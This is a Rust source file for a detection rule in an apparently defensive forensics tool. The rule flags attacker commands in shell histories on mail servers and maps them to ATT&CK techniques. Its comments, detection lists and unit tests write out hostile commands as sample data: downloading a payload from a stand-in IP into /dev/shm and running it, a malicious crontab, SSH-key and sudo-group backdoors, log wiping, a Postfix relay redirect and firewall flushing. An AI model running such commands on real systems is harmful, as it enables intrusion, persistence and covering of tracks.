//! `host.history` — the attacker's hands in a shell history: downloading and running code,
//! clearing logs and history, editing the mail configuration, adding accounts and keys,
//! locking files and dropping the firewall.
//!
//! **Why**: histories are what an intruder most often forgets or fails to wipe; on a mail
//! server they show the `wget … | sh` of the implant, the `postconf -e` or `/etc/aliases` edit
//! behind a forward, the `>> /root/.ssh/authorized_keys`, the `chattr +i` that keeps a backdoor
//! in place, and the `history -c` / `> /var/log/mail.log` of the clean-up. **How**: every
//! history [`crate::hostconf::history`] reads (bash with or without `HISTTIMEFORMAT` times, zsh
//! extended history, sh/ash, MySQL, psql, Python), each command judged: download and run
//! ([`risky_command`]'s fetch-and-run, a download into or a program run or made executable in
//! `/tmp`, `/var/tmp`, `/dev/shm`, also as `./x` after `cd` there, a download there that is
//! then unpacked or copied out — a kit installed, each later use of it too —, `/dev/tcp/`
//! reverse shells); clearing (`history -c`, `unset HISTFILE`, `HISTFILE=/dev/null`, `HISTSIZE=0`,
//! `set +o history`, `rm`/`shred`/`truncate`/`> `/`sed -i`/`ln -sf /dev/null` on `/var/log/*`,
//! `wtmp`/`btmp`/`lastlog` or a history file, `journalctl --vacuum-*`); mail configuration
//! (`postconf -e`/`-X`, `postmap`, `postalias`, `newaliases`, an editor, `sed -i`, `tee`, a
//! redirection, `cp`/`mv`/`install` onto `/etc/postfix`, `/etc/aliases`, `/etc/exim4`,
//! `/etc/mail`, `/etc/dovecot`); accounts and keys (`useradd`, `adduser`, `usermod` into
//! `sudo`/`wheel`/`root`/`adm` or to UID 0, `gpasswd -a`, `chpasswd`, `passwd OTHER`, writing
//! `authorized_keys` or `/etc/sudoers*`, `visudo`); `chattr +i`/`+a`; `iptables -F`,
//! `nft flush ruleset`, `ufw disable`, stopping firewalld, `setenforce 0`. One finding per
//! history file citing every flagged line (the first 40; the count says how many), dated by the
//! history's own times when it has them, else by the file's modification time. Reading logs,
//! the queue or the configuration (`tail -f /var/log/mail.log`, `postqueue -p`, `mailq`,
//! `less /etc/postfix/main.cf`) is not flagged. **Severity**: high when it downloads and runs
//! code or clears logs or history; medium otherwise. The phase is cleanup when clearing is all
//! it shows. **ATT&CK**: T1105 and T1059.004 (download and run), T1070.003 (Clear Command
//! History), T1059.004 (the other commands). **False positives**: an administrator's own
//! configuration edits, account creation and log pruning (medium, dated: compare with the
//! change log); a `curl … | sh` installer an administrator ran.

use super::super::host::{risky_command, Cites, ConfigRule, Host};
use crate::detect::finding::{ts, Finding, Phase, Severity, TimeSource};
use crate::hostconf::history::{is_history, parse, Entry};
use crate::hostconf::shellinit::{programs, WORLD_WRITABLE};

/// The rule.
pub struct History;

/// Most lines one finding cites.
const MAX_CITED: usize = 40;

/// What a flagged command does, in report order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Class {
    DownloadRun,
    ClearTraces,
    MailConfig,
    Accounts,
    Planted,
    Immutable,
    Firewall,
}

impl Class {
    fn phrase(self) -> &'static str {
        match self {
            Class::DownloadRun => "downloads and runs code",
            Class::ClearTraces => "clears logs or history",
            Class::MailConfig => "edits the mail configuration",
            Class::Accounts => "adds accounts or keys",
            Class::Planted => "plants start-up or scheduled jobs",
            Class::Immutable => "makes files immutable",
            Class::Firewall => "disables the firewall",
        }
    }
}

const MAIL_PATHS: &[&str] = &[
    "/etc/postfix",
    "/etc/aliases",
    "/etc/exim4",
    "/etc/exim/",
    "/etc/mail/",
    "/etc/dovecot",
];

const EDITORS: &[&str] = &[
    "vi",
    "vim",
    "vim.tiny",
    "vim.basic",
    "nvim",
    "nano",
    "pico",
    "emacs",
    "ed",
    "joe",
    "mcedit",
    "sensible-editor",
    "editor",
    "vipw",
];

/// Words of a command (separators and quotes removed, lower case).
fn words(c: &str) -> Vec<String> {
    c.to_ascii_lowercase()
        .split(|ch: char| {
            ch.is_whitespace() || matches!(ch, ';' | '|' | '&' | '(' | ')' | '`' | '\'' | '"')
        })
        .filter(|w| !w.is_empty())
        .map(str::to_string)
        .collect()
}

fn base(w: &str) -> &str {
    w.rsplit('/').next().unwrap_or(w)
}

/// Targets of output redirections: (appending, target).
fn redirects(c: &str) -> Vec<(bool, String)> {
    let b = c.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'>' {
            i += 1;
            continue;
        }
        let append = b.get(i + 1) == Some(&b'>');
        let mut j = i + if append { 2 } else { 1 };
        while j < b.len() && b[j] == b' ' {
            j += 1;
        }
        let start = j;
        while j < b.len() && !matches!(b[j], b' ' | b';' | b'|' | b'&' | b')' | b'>') {
            j += 1;
        }
        let t = c[start..j].trim_matches(['"', '\'']).to_ascii_lowercase();
        if !t.is_empty() && !c[start..].starts_with('&') {
            out.push((append, t));
        }
        i = j.max(i + 1);
    }
    out
}

fn is_log(w: &str) -> bool {
    w.contains("/var/log/")
        || w.ends_with("history")
        || ["wtmp", "btmp", "lastlog", "utmp"].contains(&base(w))
}

fn is_mail_path(w: &str) -> bool {
    MAIL_PATHS.iter().any(|m| w.starts_with(m))
}

fn in_world_writable(w: &str) -> bool {
    WORLD_WRITABLE.iter().any(|d| w.starts_with(d))
}

/// The shell's working directory after `cd` in a statement, if it changed.
fn cd_target(c: &str) -> Option<String> {
    let w = words(c);
    let i = w.iter().position(|x| x == "cd")?;
    Some(w.get(i + 1).cloned().unwrap_or_else(|| "~".into()))
}

/// Whether a command downloads into a world-writable directory (`wget -O /tmp/k`, `curl -o`,
/// any download while the shell is in one): flagged once a later command runs or makes
/// executable something there.
fn downloads_into_world_writable(cmd: &str, cwd_ww: bool) -> bool {
    let w = words(cmd);
    let downloads = w
        .iter()
        .any(|x| ["curl", "wget", "fetch", "tftp", "lwp-download", "scp"].contains(&base(x)));
    downloads
        && (cwd_ww
            || w.iter().any(|x| in_world_writable(x))
            || redirects(cmd).iter().any(|(_, t)| in_world_writable(t)))
}

/// The world-writable paths a command names (arguments and redirection targets), and the
/// working directory itself when the shell is in one: where a download lands.
fn world_writable_paths(cmd: &str, cwd: &str, cwd_ww: bool) -> Vec<String> {
    let mut out: Vec<String> = words(cmd)
        .into_iter()
        .filter(|x| in_world_writable(x))
        .collect();
    out.extend(
        redirects(cmd)
            .into_iter()
            .map(|(_, t)| t.to_ascii_lowercase())
            .filter(|t| in_world_writable(t)),
    );
    if cwd_ww {
        out.push(cwd.to_ascii_lowercase());
    }
    out
}

/// Whether a command unpacks or copies something the attacker downloaded (`kit`: the
/// world-writable paths the downloads and earlier unpacking wrote): `tar x`, `unzip`,
/// `cp`/`mv`/`install` of such a path or of something under it is the download put to use, as a
/// `chmod +x` or a run would be.
fn uses_kit(cmd: &str, kit: &[String]) -> bool {
    let w = words(cmd);
    let Some(tool) = w.first().map(|x| base(x).to_string()) else {
        return false;
    };
    const TOOLS: &[&str] = &[
        "tar", "unzip", "gunzip", "bunzip2", "unxz", "7z", "cpio", "cp", "mv", "install", "rsync",
    ];
    TOOLS.contains(&tool.as_str())
        && w.iter().skip(1).any(|x| {
            kit.iter()
                .any(|k| x == k || x.starts_with(&format!("{}/", k.trim_end_matches('/'))))
        })
}

/// Files whose writing plants code run at log-in, boot or on a schedule.
const START_UP: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    "/etc/profile",
    "/etc/bash.bashrc",
    "/etc/rc.local",
    "/etc/cron",
    "/var/spool/cron/",
    "/etc/systemd/system",
    ".config/systemd/user",
    "/etc/ld.so.preload",
    "/etc/init.d/",
];

/// What a command does that the rule flags.
fn judge(cmd: &str, cwd_ww: bool, owner: Option<&str>) -> Option<(Class, String)> {
    let w = words(cmd);
    let has = |names: &[&str]| w.iter().any(|x| names.contains(&base(x)));
    let lc = cmd.to_ascii_lowercase();
    let redir = redirects(cmd);
    // Download and run.
    if risky_command(cmd) == Some("downloads a program and runs it") {
        return Some((Class::DownloadRun, "downloads a program and runs it".into()));
    }
    if lc.contains("/dev/tcp/") || lc.contains("/dev/udp/") {
        return Some((Class::DownloadRun, "opens a shell over the network".into()));
    }
    let ww_arg = w.iter().any(|x| in_world_writable(x));
    if has(&["chmod"]) {
        let exec_mode = w
            .iter()
            .any(|x| x.contains("+x") || (x.len() == 3 && x.starts_with('7')) || x == "755");
        let target_ww = ww_arg
            || (cwd_ww
                && w.iter().any(|x| {
                    !x.starts_with('/') && !x.starts_with('-') && x != "chmod" && !x.contains("+x")
                }));
        if exec_mode && target_ww {
            return Some((
                Class::DownloadRun,
                "makes a file in a world-writable directory executable".into(),
            ));
        }
    }
    for p in programs(cmd) {
        if in_world_writable(&p) || (cwd_ww && p.starts_with("./")) {
            return Some((
                Class::DownloadRun,
                format!("runs {p} from a world-writable directory"),
            ));
        }
    }
    // Clearing logs and history.
    let hist_var = |v: &str| {
        lc.contains(&format!("{v}=/dev/null"))
            || lc.contains(&format!("{v}=0"))
            || lc.contains(&format!("{v}= "))
    };
    if (has(&["history"]) && w.iter().any(|x| x.starts_with("-c")))
        || (has(&["unset"]) && w.iter().any(|x| x == "histfile"))
        || hist_var("histfile")
        || hist_var("histsize")
        || hist_var("histfilesize")
        || lc.contains("set +o history")
    {
        return Some((
            Class::ClearTraces,
            "turns off or clears the shell history".into(),
        ));
    }
    if has(&["rm", "shred", "truncate", "unlink", "srm", "wipe"]) && w.iter().any(|x| is_log(x)) {
        return Some((
            Class::ClearTraces,
            "deletes or empties logs or history".into(),
        ));
    }
    if redir.iter().any(|(append, t)| !append && is_log(t)) {
        return Some((Class::ClearTraces, "overwrites a log or history".into()));
    }
    if (lc.contains("sed -i") || (has(&["ln"]) && lc.contains("/dev/null")))
        && w.iter().any(|x| is_log(x))
    {
        return Some((Class::ClearTraces, "rewrites a log or history".into()));
    }
    if has(&["journalctl"]) && lc.contains("--vacuum") {
        return Some((Class::ClearTraces, "deletes the systemd journal".into()));
    }
    // Mail configuration.
    let first = w.first().map(|x| base(x).to_string()).unwrap_or_default();
    let cmd_word = if first == "sudo" {
        w.get(1).map(|x| base(x).to_string()).unwrap_or_default()
    } else {
        first
    };
    if has(&["postmap", "postalias", "newaliases"])
        || (has(&["postconf"]) && w.iter().any(|x| x == "-e" || x == "-x" || x == "-#"))
    {
        return Some((Class::MailConfig, "changes the mail configuration".into()));
    }
    let mail_arg = w.iter().any(|x| is_mail_path(x));
    let writes_mail = EDITORS.contains(&cmd_word.as_str())
        || lc.contains("sed -i")
        || has(&["tee"])
        || redir.iter().any(|(_, t)| is_mail_path(t))
        || (["cp", "mv", "install", "ln"].contains(&cmd_word.as_str())
            && w.last().is_some_and(|x| is_mail_path(x)));
    if mail_arg && writes_mail {
        return Some((Class::MailConfig, "edits the mail configuration".into()));
    }
    // Accounts and keys.
    if has(&["useradd", "adduser", "chpasswd", "visudo", "newusers"]) {
        return Some((Class::Accounts, "adds or changes an account".into()));
    }
    if has(&["usermod", "gpasswd"]) {
        let priv_group = w.iter().any(|x| {
            x.split(',')
                .any(|g| ["sudo", "wheel", "root", "adm", "admin"].contains(&g))
        });
        if priv_group || w.iter().any(|x| x == "-o") || lc.contains("-u 0") {
            return Some((
                Class::Accounts,
                "gives an account administrator rights".into(),
            ));
        }
    }
    let writes_file = |name: &str| {
        redir.iter().any(|(_, t)| t.contains(name))
            || (has(&["tee", "cp", "mv", "install", "cat", "sed"])
                && w.iter().any(|x| x.contains(name))
                && (has(&["tee", "cp", "mv", "install"]) || lc.contains("sed -i")))
    };
    if writes_file("authorized_keys") {
        return Some((Class::Accounts, "adds an SSH key".into()));
    }
    if writes_file("/etc/sudoers") || writes_file("/etc/passwd") || writes_file("/etc/shadow") {
        return Some((Class::Accounts, "writes the account or sudo files".into()));
    }
    if cmd_word == "passwd" {
        let target = w
            .iter()
            .skip(1)
            .find(|x| !x.starts_with('-') && *x != "passwd");
        if let Some(t) = target {
            if Some(t.as_str()) != owner {
                return Some((Class::Accounts, format!("sets the password of {t}")));
            }
        }
    }
    // Start-up files and schedules.
    let start_up = |x: &str| START_UP.iter().any(|p| x.contains(p));
    if redir.iter().any(|(_, t)| start_up(t))
        || ((has(&["tee"]) || lc.contains("sed -i")) && w.iter().any(|x| start_up(x)))
        || (["cp", "mv", "install", "ln"].contains(&cmd_word.as_str())
            && w.last().is_some_and(|x| start_up(x)))
    {
        return Some((
            Class::Planted,
            "writes a start-up or scheduled job file".into(),
        ));
    }
    let crontab_args = w
        .iter()
        .rposition(|x| base(x) == "crontab")
        .map(|i| &w[i + 1..]);
    if crontab_args.is_some_and(|a| !a.iter().any(|x| ["-l", "-e", "-r"].contains(&x.as_str()))) {
        return Some((Class::Planted, "installs a crontab".into()));
    }
    // Locking files, dropping the firewall.
    if has(&["chattr"])
        && w.iter()
            .any(|x| x.starts_with('+') && (x.contains('i') || x.contains('a')))
    {
        return Some((Class::Immutable, "makes files immutable".into()));
    }
    let fw = (has(&["iptables", "ip6tables", "iptables-legacy", "iptables-nft"])
        && w.iter().any(|x| x == "-f" || x == "--flush"))
        || (has(&["nft"]) && lc.contains("flush ruleset"))
        || (has(&["ufw"]) && w.iter().any(|x| x == "disable"))
        || (has(&["systemctl", "service"])
            && w.iter()
                .any(|x| x == "stop" || x == "disable" || x == "mask")
            && w.iter().any(|x| {
                ["firewalld", "ufw", "nftables", "iptables"]
                    .contains(&x.trim_end_matches(".service"))
            }))
        || (has(&["setenforce"]) && w.iter().any(|x| x == "0"));
    if fw {
        return Some((Class::Firewall, "disables the firewall or SELinux".into()));
    }
    None
}

/// The flagged commands of one history: (entry, class, why), in line order.
fn flagged(entries: &[Entry], owner: Option<&str>) -> Vec<(Entry, Class, String)> {
    let mut out = Vec::new();
    // The shell's working directory, as far as the `cd`s typed tell (`~` at the start).
    let mut cwd = String::from("~");
    let mut pending: Vec<&Entry> = Vec::new();
    // Where downloads into world-writable directories landed (and what they were unpacked
    // to): later unpacking or copies of these are the same kit being installed.
    let mut kit: Vec<String> = Vec::new();
    for e in entries {
        // Statements of a line in order: a `cd /dev/shm; ./x` line counts its own cd.
        let mut hit: Option<(Class, String)> = None;
        let mut download = false;
        for stmt in e.command.split([';', '\n']).flat_map(|s| s.split("&&")) {
            let cwd_ww = in_world_writable(&format!("{cwd}/"));
            if hit.is_none() {
                hit = judge(stmt, cwd_ww, owner);
            }
            if hit.is_none() && uses_kit(stmt, &kit) {
                hit = Some((
                    Class::DownloadRun,
                    "unpacks or installs what was downloaded into a world-writable directory"
                        .into(),
                ));
                // What it unpacked to is the kit too (`tar … -C /dev/shm/.x`).
                kit.extend(world_writable_paths(stmt, &cwd, false));
            }
            if downloads_into_world_writable(stmt, cwd_ww) {
                download = true;
                kit.extend(world_writable_paths(stmt, &cwd, cwd_ww));
            }
            if let Some(d) = cd_target(stmt) {
                cwd = if d.starts_with('/') || d.starts_with('~') {
                    d.trim_end_matches('/').to_string()
                } else {
                    format!("{}/{}", cwd.trim_end_matches('/'), d.trim_end_matches('/'))
                };
            }
        }
        match hit {
            Some((Class::DownloadRun, why)) => {
                for p in pending.drain(..) {
                    out.push((
                        p.clone(),
                        Class::DownloadRun,
                        "downloads what is run next into a world-writable directory".into(),
                    ));
                }
                out.push((e.clone(), Class::DownloadRun, why));
            }
            Some((c, why)) => out.push((e.clone(), c, why)),
            None if download => pending.push(e),
            None => {}
        }
    }
    out.sort_by_key(|x| x.0.line);
    out
}

impl ConfigRule for History {
    fn check(&self, host: &Host) -> Vec<Finding> {
        let mut out = Vec::new();
        for (path, f) in &host.conf.files {
            if !is_history(path) {
                continue;
            }
            let owner = host
                .owner_of(path)
                .map(str::to_string)
                .or_else(|| path.starts_with("/root/").then(|| "root".to_string()));
            let hits = flagged(&parse(path, &f.text()), owner.as_deref());
            if hits.is_empty() {
                continue;
            }
            let mut classes: Vec<Class> = hits.iter().map(|h| h.1).collect();
            classes.sort();
            classes.dedup();
            let mut c = Cites::default();
            for (e, _, _) in hits.iter().take(MAX_CITED) {
                c.add(&host.conf, path, Some(e.line));
            }
            let high =
                classes.contains(&Class::DownloadRun) || classes.contains(&Class::ClearTraces);
            let mut attack = Vec::new();
            if classes.contains(&Class::DownloadRun) {
                attack.push("T1105");
            }
            if classes.iter().any(|c| *c != Class::ClearTraces) {
                attack.push("T1059.004");
            }
            if classes.contains(&Class::ClearTraces) {
                attack.push("T1070.003");
            }
            let phrases: Vec<&str> = classes.iter().map(|c| c.phrase()).collect();
            let whose = owner
                .as_deref()
                .map(|u| format!("{u}'s history"))
                .unwrap_or_else(|| "History".to_string());
            let shown: Vec<String> = hits
                .iter()
                .take(10)
                .map(|(e, _, why)| {
                    format!(
                        "line {}: {} — {why}",
                        e.line,
                        crate::sanitize::cut(e.command.trim(), 200)
                    )
                })
                .collect();
            let mut finding = c.finding(
                "host.history",
                if high {
                    Severity::High
                } else {
                    Severity::Medium
                },
                attack,
                format!(
                    "{whose} {path} {} ({} command{})",
                    join_phrases(&phrases),
                    hits.len(),
                    if hits.len() == 1 { "" } else { "s" }
                ),
                format!(
                    "{path}: {}{}",
                    shown.join("; "),
                    if hits.len() > 10 {
                        format!("; and {} more", hits.len() - 10)
                    } else {
                        String::new()
                    }
                ),
            );
            finding.count = hits.len() as u64;
            if classes == [Class::ClearTraces] {
                finding.phase = Phase::Cleanup;
            }
            let times: Vec<i64> = hits.iter().filter_map(|(e, _, _)| e.time_us).collect();
            if let (Some(a), Some(b)) = (times.iter().min(), times.iter().max()) {
                finding.first_seen = ts(*a);
                finding.last_seen = ts(*b);
                finding.time_source = TimeSource::Events;
            }
            if let Some(u) = owner {
                finding.entities.users.push(u);
            }
            out.push(finding);
        }
        out
    }
}

fn join_phrases(p: &[&str]) -> String {
    match p {
        [] => String::new(),
        [one] => one.to_string(),
        [rest @ .., last] => format!("{}, and {last}", rest.join(", ")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::rules::config_tests::{cited, cites, host};

    const PASSWD: &str =
        "root:x:0:0:root:/root:/bin/bash\nops:x:1000:1000:Ops,,,:/home/ops:/bin/bash\n";

    /// An administrator's ordinary week on a Postfix host.
    pub const ORDINARY: &str =
        include_str!("../../../tests/fixtures/host-init/root/home/ops/.bash_history");

    /// The attacker's session (root, HISTTIMEFORMAT set by the distribution's profile).
    pub const ATTACK: &str =
        include_str!("../../../tests/fixtures/host-init/root/root/.bash_history");

    #[test]
    fn an_ordinary_admin_history_is_quiet() {
        let h = host(&[
            ("/etc/passwd", PASSWD),
            ("/home/ops/.bash_history", ORDINARY),
        ]);
        let f = History.check(&h);
        assert!(f.is_empty(), "{:#?}", cited(f));
        assert!(parse("/home/ops/.bash_history", ORDINARY).len() > 30);
    }

    #[test]
    fn the_attackers_session_is_one_finding_with_its_lines_and_times() {
        let h = host(&[("/etc/passwd", PASSWD), ("/root/.bash_history", ATTACK)]);
        let f = History.check(&h);
        assert_eq!(f.len(), 1, "{f:#?}");
        let x = &f[0];
        assert_eq!(x.severity, Severity::High);
        assert_eq!(x.phase, Phase::Persistence);
        assert_eq!(x.time_source, TimeSource::Events);
        assert_eq!(x.entities.users, ["root"]);
        assert_eq!(x.first_seen, "2026-03-14T02:15:17Z");
        assert_eq!(x.last_seen, "2026-03-14T02:31:40Z");
        assert_eq!(
            cited(f.clone()),
            vec![(
                "root's history /root/.bash_history downloads and runs code, clears logs or history, edits the mail configuration, adds accounts or keys, plants start-up or scheduled jobs, makes files immutable, and disables the firewall (16 commands)".to_string(),
                cites(&[(
                    "root/.bash_history",
                    &[16, 18, 20, 22, 26, 30, 32, 34, 36, 38, 40, 42, 48, 50, 52, 54]
                )])
            )]
        );
    }

    #[test]
    fn a_kit_downloaded_unpacked_and_installed_from_dev_shm_is_cited_from_its_download() {
        let hist = "apt update\nwget -q http://203.0.113.77/x.tgz -O /dev/shm/x.tgz\nmkdir -p /dev/shm/.x && tar xzf /dev/shm/x.tgz -C /dev/shm/.x\ncp /dev/shm/.x/lib.so /usr/local/lib/lib.so\n";
        let h = host(&[("/etc/passwd", PASSWD), ("/root/.bash_history", hist)]);
        let f = History.check(&h);
        assert_eq!(f.len(), 1, "{f:#?}");
        assert_eq!(f[0].severity, Severity::High);
        assert_eq!(f[0].evidence[0].lines, [2, 3, 4]);
        // An administrator's download into /tmp that is never unpacked or run stays quiet,
        // and a copy out of /tmp with no download before it too.
        let hist = "wget https://example.org/release.tgz -O /tmp/r.tgz\ncp /tmp/notes.txt /root/\n";
        let h = host(&[("/etc/passwd", PASSWD), ("/root/.bash_history", hist)]);
        assert!(History.check(&h).is_empty());
    }

    #[test]
    fn classes_zsh_times_and_cleanup_only() {
        let h = host(&[
            ("/etc/passwd", PASSWD),
            ("/home/ops/.zsh_history", ": 1773454446:0;ls\n: 1773454450:0;unset HISTFILE\n: 1773454460:0;cat /dev/null > /var/log/mail.log\n: 1773454470:0;journalctl --vacuum-time=1s\n"),
        ]);
        let f = History.check(&h);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].phase, Phase::Cleanup);
        assert_eq!(f[0].attack, vec!["T1070.003"]);
        assert_eq!(f[0].evidence[0].lines, [2, 3, 4]);
        assert_eq!(f[0].first_seen, "2026-03-14T02:14:10Z");
        let j = |c: &str| judge(c, false, Some("ops")).map(|x| x.0);
        assert_eq!(j("passwd"), None);
        assert_eq!(j("passwd ops"), None);
        assert_eq!(j("passwd backup"), Some(Class::Accounts));
        assert_eq!(
            j("echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"),
            Some(Class::Accounts)
        );
        assert_eq!(j("usermod -aG sudo backup"), Some(Class::Accounts));
        assert_eq!(j("usermod -s /bin/bash ops"), None);
        assert_eq!(j("chattr +i /etc/passwd"), Some(Class::Immutable));
        assert_eq!(j("lsattr /etc/passwd"), None);
        assert_eq!(j("iptables -F"), Some(Class::Firewall));
        assert_eq!(j("iptables -L -n"), None);
        assert_eq!(
            j("sed -i 's/^relayhost.*/relayhost = [203.0.113.77]/' /etc/postfix/main.cf"),
            Some(Class::MailConfig)
        );
        assert_eq!(j("grep relayhost /etc/postfix/main.cf"), None);
        assert_eq!(j("history -c"), Some(Class::ClearTraces));
        assert_eq!(j("history | tail"), None);
        assert_eq!(j("rm -f /var/log/mail.log.1"), Some(Class::ClearTraces));
        assert_eq!(j("zcat /var/log/mail.log.2.gz | grep sasl"), None);
        assert_eq!(
            j("wget -O /tmp/k http://203.0.113.77/k; chmod 755 /tmp/k"),
            Some(Class::DownloadRun)
        );
        assert_eq!(
            j("wget -O /tmp/y.tar.gz https://github.com/x/y/releases/download/v1/y.tar.gz"),
            None
        );
        // `./x` in /dev/shm after a cd on an earlier line; the download before it.
        let e = parse(
            "/root/.bash_history",
            "cd /var/tmp\nwget http://203.0.113.77/k\nmkdir .k; cd .k\nchmod +x ../k\n./k -d\ncd\n./configure\ncd /tmp\nwget https://example.org/a.tar.gz\n",
        );
        let got: Vec<u64> = flagged(&e, Some("root")).iter().map(|x| x.0.line).collect();
        assert_eq!(got, [2, 4, 5]);
        assert_eq!(
            j("(crontab -l; echo '*/5 * * * * /dev/shm/.x/k') | crontab -"),
            Some(Class::Planted)
        );
        assert_eq!(j("crontab -l"), None);
    }
}
